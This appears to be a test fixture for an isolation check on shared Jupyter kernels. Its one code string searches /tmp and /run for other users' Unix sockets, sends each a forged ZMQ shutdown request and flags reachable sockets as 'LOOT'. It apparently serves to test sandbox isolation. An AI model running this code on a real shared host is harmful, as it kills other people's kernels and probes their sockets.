"""Speak ZMQ to the sockets of other kernels.

class: classmates
expect: graded
"""

EXTRA = [
    """import glob
import os
import socket
import stat

import zmq

kernel = get_ipython().kernel
mine = set()
for fd in os.listdir("/proc/self/fd"):
    try:
        end = socket.socket(fileno=os.dup(int(fd)))
        mine.add(str(end.getsockname()))
    except OSError:
        pass
for path in glob.glob("/tmp/**/*", recursive=True) + glob.glob("/run/**/*", recursive=True):
    try:
        if not stat.S_ISSOCK(os.stat(path).st_mode) or path in mine:
            continue
    except OSError:
        continue
    dealer = zmq.Context.instance().socket(zmq.DEALER)
    dealer.linger = 0
    dealer.connect(f"ipc://{path}")
    kernel.session.send(dealer, "shutdown_request", {"restart": False})
    try:
        probe = socket.socket(socket.AF_UNIX)
        probe.connect(path)
        print("LOOT: a socket that is not mine", path)
    except OSError:
        pass
    dealer.close()"""
]
